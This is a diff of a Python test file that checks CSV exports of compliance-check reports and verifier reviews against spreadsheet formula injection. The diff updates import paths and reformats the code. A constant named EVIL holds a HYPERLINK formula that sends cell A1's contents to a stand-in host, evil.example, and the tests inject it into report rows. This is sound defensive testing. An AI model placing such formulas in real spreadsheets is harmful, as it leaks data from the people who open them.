@@ -8,10 +8,10 @@ import io
 import duckdb
 from typer.testing import CliRunner
 
-from core.errors import CheckFailed
-from core.home import Home
-from flows.cli import app
-from warehouse.spreadsheet import safe_cell, write_csv
+from ecocluster.core.errors import CheckFailed
+from ecocluster.core.home import Home
+from ecocluster.flows.cli import app
+from ecocluster.warehouse.spreadsheet import safe_cell, write_csv
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
@@ -25,27 +25,52 @@ def test_formula_triggers_are_neutralised_and_numbers_kept() -> None:
     out = io.StringIO()
     write_csv(out, ["member", "note"], [["IT-H01", EVIL], ["IT-H02", -1.5]])
     assert list(csv.reader(io.StringIO(out.getvalue()))) == [
-        ["member", "note"], ["IT-H01", "'" + EVIL], ["IT-H02", "-1.5"]]
+        ["member", "note"],
+        ["IT-H01", "'" + EVIL],
+        ["IT-H02", "-1.5"],
+    ]
     assert out.getvalue().splitlines()[1].startswith('"IT-H01","\'=HYPERLINK')  # every field quoted
 
 
 def _results_with_member_text(con: duckdb.DuckDBPyConnection) -> None:
     """A blocking check result whose file name and explanation carry a member's formula text."""
-    con.execute("INSERT INTO submission VALUES ('s1', 'member', ?, 'json', 'utf-8', 10, now(), 'raw/s1', 'IT-CL')",
-                [EVIL + ".json"])
+    con.execute(
+        "INSERT INTO submission VALUES ('s1', 'member', ?, 'json', 'utf-8', 10, now(), 'raw/s1', 'IT-CL')",
+        [EVIL + ".json"],
+    )
     con.execute("INSERT INTO check_run VALUES ('r1', 2025, 'all', 1, 1, 0, false, '/docs/index.html', now())")
     con.execute("INSERT INTO check_member VALUES (2025, 'IT-H01', 'r1')")
-    con.execute("INSERT INTO check_result VALUES ('r1', 2025, 'IT-H01', 'compliance', 'compliance.permit_exceeded',"
-                " 'blocking', '@indicator', 's1', 4, '-5', '0', ?)", [f"the member wrote {EVIL}"[17:]])
+    con.execute(
+        "INSERT INTO check_result VALUES ('r1', 2025, 'IT-H01', 'compliance', 'compliance.permit_exceeded',"
+        " 'blocking', '@indicator', 's1', 4, '-5', '0', ?)",
+        [f"the member wrote {EVIL}"[17:]],
+    )
 
 
 def test_check_report_csv_is_spreadsheet_safe(home: Home, con: duckdb.DuckDBPyConnection) -> None:
     _results_with_member_text(con)
     con.close()
     out = home.root / "report.csv"
-    result = CliRunner().invoke(app, ["--home", str(home.root), "check", "report", "--year", "2025",
-                                      "--format", "csv", "--out", str(out), "--fail-on", "blocking"])
-    assert isinstance(result.exception, CheckFailed), result.output  # asked to, blocking failures say so (exit 4)
+    result = CliRunner().invoke(
+        app,
+        [
+            "--home",
+            str(home.root),
+            "check",
+            "report",
+            "--year",
+            "2025",
+            "--format",
+            "csv",
+            "--out",
+            str(out),
+            "--fail-on",
+            "blocking",
+        ],
+    )
+    assert isinstance(result.exception, CheckFailed), (
+        result.output
+    )  # asked to, blocking failures say so (exit 4)
     rows = list(csv.reader(out.open(encoding="utf-8")))
     assert rows[0] == ["member", "severity", "rule", "about", "source", "explanation"]
     member, severity, rule, about, source, explanation = rows[1]
@@ -56,15 +81,20 @@ def test_check_report_csv_is_spreadsheet_safe(home: Home, con: duckdb.DuckDBPyCo
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
 
 
-def test_verifier_review_export_is_spreadsheet_safe(con: duckdb.DuckDBPyConnection, home: Home, tmp_path) -> None:
-    from core.store import LocalStore
-    from signing import export_review
+def test_verifier_review_export_is_spreadsheet_safe(
+    con: duckdb.DuckDBPyConnection, home: Home, tmp_path
+) -> None:
+    from ecocluster.core.store import LocalStore
+    from ecocluster.signing import export_review
     from tests.signing.rows import ready_member
 
     store = LocalStore(home.objects_dir)
     ready_member(con, store)
-    con.execute("INSERT INTO check_result VALUES ('run-IT-CL-001-2025', 2025, 'IT-CL-001', 'plausibility', "
-                "'plausibility.jump', 'warning', '-energy', NULL, NULL, '-12.5', NULL, ?)", [EVIL])
+    con.execute(
+        "INSERT INTO check_result VALUES ('run-IT-CL-001-2025', 2025, 'IT-CL-001', 'plausibility', "
+        "'plausibility.jump', 'warning', '-energy', NULL, NULL, '-12.5', NULL, ?)",
+        [EVIL],
+    )
     export_review(con, store, "IT-CL-001", tmp_path / "review")
     rows = list(csv.reader((tmp_path / "review" / "check-report.csv").open(encoding="utf-8")))
     assert rows[0] == ["suite", "expectation", "severity", "indicator", "observed", "expected", "explanation"]
